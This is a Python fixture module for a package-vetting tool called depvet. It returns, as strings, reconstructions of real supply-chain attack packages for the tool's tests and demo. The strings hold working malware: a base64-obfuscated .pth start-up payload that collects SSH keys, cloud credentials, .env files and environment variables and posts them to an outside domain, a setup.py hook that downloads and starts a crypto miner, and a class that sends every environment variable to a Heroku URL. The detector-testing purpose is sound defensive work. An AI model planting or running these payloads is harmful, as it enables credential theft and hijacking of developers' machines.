"""Inert reconstructions of real supply-chain attacks, as text, for tests and the demo.

Each function returns the files of a package. Nothing here is ever executed: the payloads are
strings that depvet reads. Domains and paths follow the public incident write-ups
(../shared/research/incidents.md) so that what depvet reports can be compared with them.
"""

from __future__ import annotations

import base64

# What LiteLLM 1.82.8's second stage did, reduced to its behaviour: collect SSH keys, cloud and
# Kubernetes credentials, .env files and the environment, and POST them to the attacker.
LITELLM_STAGE2 = """import os, glob, json, urllib.request
home = os.path.expanduser("~")
loot = {}
for path in glob.glob(os.path.join(home, ".ssh", "id_*")):
    loot[path] = open(path).read()
for rel in (".aws/credentials", ".kube/config", ".docker/config.json", ".git-credentials"):
    candidate = os.path.join(home, rel)
    if os.path.exists(candidate):
        loot[candidate] = open(candidate).read()
for root, _dirs, files in os.walk(os.getcwd()):
    for name in files:
        if name.startswith(".env"):
            loot[os.path.join(root, name)] = open(os.path.join(root, name)).read()
loot["environment"] = dict(os.environ)
request = urllib.request.Request("https://models.litellm.cloud/", data=json.dumps(loot).encode(),
                                 headers={"X-Filename": "tpcp.tar.gz"})
urllib.request.urlopen(request)
"""


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def litellm_1_82_8() -> dict[str, str]:
    """The LiteLLM 1.82.8 wheel: a double-base64 payload started from ``litellm_init.pth``."""
    stage1 = f"import base64; exec(base64.b64decode('{_b64(LITELLM_STAGE2)}'))"
    pth = (
        'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", '
        f"\"import base64; exec(base64.b64decode('{_b64(stage1)}'))\"])\n"
    )
    return {
        "litellm_init.pth": pth,
        "litellm/__init__.py": "from .main import completion\n__version__ = '1.82.8'\n",
        "litellm/main.py": "def completion(model, messages):\n    return {'model': model, 'choices': []}\n",
    }


def litellm_1_82_6() -> dict[str, str]:
    """The release before: the same package without the start-up payload."""
    files = litellm_1_82_8()
    del files["litellm_init.pth"]
    files["litellm/__init__.py"] = files["litellm/__init__.py"].replace("1.82.8", "1.82.6")
    return files


def ultralytics_style() -> dict[str, str]:
    """An sdist whose install command downloads a miner to /tmp, makes it executable and starts it."""
    setup = """import os, subprocess, urllib.request
from setuptools import setup
from setuptools.command.install import install

RUNNER = "/tmp/ultralytics_runner"


class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve("https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig", RUNNER)
        os.chmod(RUNNER, 0o755)
        subprocess.Popen([RUNNER, "-o", "connect.consrensys.com:8080", "--donate-level", "1"],
                         start_new_session=True)


setup(name="ultralytics", version="8.3.41", packages=["ultralytics"], cmdclass={"install": PostInstall})
"""
    return {
        "setup.py": setup,
        "ultralytics/__init__.py": "__version__ = '8.3.41'\n",
        "ultralytics/utils/downloads.py": "def safe_download(url, file):\n    return file\n",
    }


def ctx_style() -> dict[str, str]:
    """ctx 0.2.6: creating a Ctx object sends every environment variable to a Heroku app."""
    module = """import base64
from os import environ
import requests


class Ctx(dict):
    def __init__(self):
        super().__init__()
        self.sendRequest()

    def sendRequest(self):
        values = ""
        for _, value in environ.items():
            values += value + " "
        encoded = base64.b64encode(values.encode("ascii")).decode("ascii")
        requests.get("https://anti-theft-web.herokuapp.com/hacked/" + encoded)
"""
    return {
        "ctx.py": module,
        "setup.py": "from setuptools import setup\nsetup(name='ctx', py_modules=['ctx'])\n",
    }


def benign_sdk() -> dict[str, str]:
    """A clean look-alike: an SDK that reads credentials to sign requests, and a CLI that runs git."""
    return {
        "cloudkit/__init__.py": "from .client import Client\n__version__ = '2.0.0'\n",
        "cloudkit/credentials.py": (
            "import configparser, os\n\ndef load(profile='default'):\n"
            "    parser = configparser.ConfigParser()\n"
            "    parser.read(os.path.expanduser('~/.aws/credentials'))\n"
            "    return parser[profile]['aws_access_key_id'], parser[profile]['aws_secret_access_key']\n"
        ),
        "cloudkit/client.py": (
            "import hmac, hashlib, json, urllib.request\nfrom .credentials import load\n\n"
            "class Client:\n    def call(self, url, body):\n        key, secret = load()\n"
            "        data = json.dumps(body).encode()\n"
            "        signature = hmac.new(secret.encode(), data, hashlib.sha256).hexdigest()\n"
            "        request = urllib.request.Request(url, data=data)\n"
            "        request.add_header('X-Key', key)\n        request.add_header('X-Signature', signature)\n"
            "        return urllib.request.urlopen(request)\n"
        ),
        "setup.py": (
            "import subprocess\nfrom setuptools import setup\n"
            "version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
            "setup(name='cloudkit', version=version, packages=['cloudkit'])\n"
        ),
    }
